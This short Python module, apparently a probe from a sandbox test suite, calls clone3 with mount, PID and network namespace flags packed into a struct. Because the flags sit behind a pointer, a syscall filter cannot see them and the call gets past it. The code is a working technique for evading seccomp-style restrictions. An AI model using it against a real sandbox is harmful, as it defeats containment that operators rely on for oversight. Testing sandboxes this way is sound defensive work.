"""Makes namespaces by the call whose flags a filter cannot see."""

import ctypes
import os
import struct

from kernel import NEWNET, NEWNS, NEWPID, call


def attack(world):
    arguments = struct.pack("<QQQQQ", NEWNS | NEWPID | NEWNET, 0, 0, 0, 17) + bytes(48)
    child = call("clone3", ctypes.create_string_buffer(arguments, len(arguments)), len(arguments))
    if child == 0:
        os._exit(0)
    os.waitpid(child, 0)
    return "made"
